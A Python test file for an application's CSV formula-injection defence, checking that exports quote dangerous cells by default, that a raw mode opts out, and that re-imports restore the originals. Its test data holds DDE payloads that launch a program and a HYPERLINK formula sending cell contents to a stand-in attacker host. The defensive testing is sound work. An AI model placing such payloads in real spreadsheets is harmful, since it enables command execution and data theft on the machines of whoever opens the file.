"""Spreadsheet formula injection (issue 14, section 5): a CSV export quotes every cell that a
spreadsheet would run, by default; `--raw` opts out; a re-import undoes exactly the quotes
that the export added (app.core.io.spreadsheet)."""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from app.cli.main import main as cli
from app.core.io.export import export_datapoints
from app.core.io.importer import import_dataset
from app.core.io.spreadsheet import (
    NEUTRALISED_COLUMN,
    QUOTE,
    TRIGGERS,
    needs_quote,
    neutralise,
    neutralise_row,
    reading,
    restore,
)
from tests.unit.helpers import rows, texts, values

# The ten cells, and more: every trigger, full-width ones, and texts that really begin
# with quotes, which must come back unchanged.
HOSTILE = [
    "=cmd|' /C calc'!A0",
    "+1+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＠SUM(A1)",
    "'=already quoted by its author",
    "''+two quotes",
    "'plain quote, no formula",
    "'",
    "plain text = fine",
    " =leading space is not a formula",
]
LABELS = ("=HYPERLINK(1)", "-1", "+x", "ok")


def cells_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def runs_as_formula(cell: str) -> bool:
    return bool(cell) and cell[0] in TRIGGERS


def hostile_project(make_project, tmp_path):
    project = make_project(labels=LABELS, inputs=["text", "note"])
    source = tmp_path / "=evil(1).jsonl"
    with source.open("w", encoding="utf-8") as handle:
        for i, text in enumerate(HOSTILE):
            note = HOSTILE[-1 - i]
            handle.write(json.dumps({"text": text, "note": note, "y": LABELS[i % 4]}) + "\n")
    import_dataset(project, source, label_column="y", annotator="@alice")
    return project


def test_every_cell_is_neutralised_by_default(make_project, tmp_path):
    project = hostile_project(make_project, tmp_path)
    out = tmp_path / "out.csv"
    assert export_datapoints(project, out) == len(HOSTILE)
    table = cells_of(out)
    header, body = table[0], table[1:]
    assert header[-1] == NEUTRALISED_COLUMN
    assert "label:@alice" in header
    assert not [cell for row in table for cell in row if runs_as_formula(cell)]
    column = {name: i for i, name in enumerate(header)}
    for i, row in enumerate(body):
        assert row[column["text"]] == neutralise(HOSTILE[i])
        assert row[column["note"]] == neutralise(HOSTILE[-1 - i])
        assert row[column["label"]] == neutralise(LABELS[i % 4])
        assert row[column["label:@alice"]] == neutralise(LABELS[i % 4])
        assert row[-1] == ""
    assert body[0][column["text"]] == "'=cmd|' /C calc'!A0"
    assert body[5][column["text"]] == "'\t=1+1"
    assert body[9][column["text"]] == "''=already quoted by its author"
    assert body[11][column["text"]] == "'plain quote, no formula"  # untouched
    assert body[0][column["dataset"]] == "'=evil(1).jsonl"  # the file name too
    (event,) = rows(project, "SELECT after FROM audit_event WHERE action = 'export'")
    assert json.loads(event[0])["neutralised"] is True


def test_raw_writes_verbatim(make_project, tmp_path):
    project = hostile_project(make_project, tmp_path)
    out = tmp_path / "raw.csv"
    export_datapoints(project, out, raw=True)
    header, *body = cells_of(out)
    assert NEUTRALISED_COLUMN not in header
    assert [row[header.index("text")] for row in body] == HOSTILE
    assert [row[header.index("label")] for row in body] == [LABELS[i % 4] for i in range(15)]


def test_reimport_gives_back_exactly_what_was_exported(make_project, tmp_path):
    project = hostile_project(make_project, tmp_path)
    for raw in (False, True):
        out = tmp_path / f"out-{raw}.csv"
        export_datapoints(project, out, raw=raw)
        again = make_project(labels=LABELS, inputs=["text", "note"])
        import_dataset(again, out, label_column="label")
        assert texts(again) == HOSTILE
        notes = [json.loads(r[0])["note"] for r in rows(again, "SELECT context FROM datapoint")]
        assert notes == HOSTILE[::-1]
        assert values(again) == values(project)


def test_a_file_without_the_marker_is_read_verbatim(make_project, tmp_path):
    # Someone else's CSV (or a --raw export, or one from before this change): its quotes are
    # its author's, and stay.
    path = tmp_path / "theirs.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([["text"], ["'=1+1"], ["''-x"], ["'@y"]])
    project = make_project()
    import_dataset(project, path)
    assert texts(project) == ["'=1+1", "''-x", "'@y"]


def test_marker_column_restores_header_and_cells(make_project, tmp_path):
    path = tmp_path / "edited.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [["text", NEUTRALISED_COLUMN], ["'=1+1", ""], ["'quoted", ""], ["''=x", ""]]
        )
    project = make_project()
    import_dataset(project, path, mapping={"text": "text"})
    assert texts(project) == ["=1+1", "'quoted", "'=x"]


def test_cli_export_neutralises_and_raw_opts_out(make_project, tmp_path, capsys):
    project = hostile_project(make_project, tmp_path)
    project.close()
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    assert cli(["export", str(project.path), str(safe)]) == 0
    assert cli(["export", str(project.path), str(raw), "--raw"]) == 0
    assert not any(runs_as_formula(cell) for row in cells_of(safe) for cell in row)
    assert sum(runs_as_formula(cell) for row in cells_of(raw) for cell in row) >= 10
    conn = sqlite3.connect(project.path)
    events = [json.loads(r[0]) for r in conn.execute("SELECT after FROM audit_event")]
    conn.close()
    assert [e["neutralised"] for e in events if "neutralised" in e] == [True, False]


def test_jsonl_export_is_never_altered(make_project, tmp_path):
    project = hostile_project(make_project, tmp_path)
    out = tmp_path / "out.jsonl"
    export_datapoints(project, out)
    with out.open(encoding="utf-8") as handle:
        assert [json.loads(line)["text"] for line in handle] == HOSTILE


def test_neutralise_row_matches_neutralise():
    cells = [*HOSTILE, None, 7, -3, ""]
    assert neutralise_row(cells) == [neutralise("" if c is None else str(c)) for c in cells]
    assert neutralise_row([-3]) == ["'-3"]


def test_reading_without_marker_is_identity():
    assert reading(["text", "'=a"]) == (["text", "'=a"], None)
    assert reading(["'=a", NEUTRALISED_COLUMN]) == (["=a", NEUTRALISED_COLUMN], restore)


starts = st.sampled_from(["", "'", "''", "'''", *sorted(TRIGGERS), "a", " "])


@given(st.tuples(starts, starts, st.text()).map("".join))
def test_neutralise_is_safe_and_restore_inverts_it(value):
    safe = neutralise(value)
    assert not runs_as_formula(safe)
    assert restore(safe) == value
    assert safe == value or safe == QUOTE + value
    assert needs_quote(value) == (safe != value)
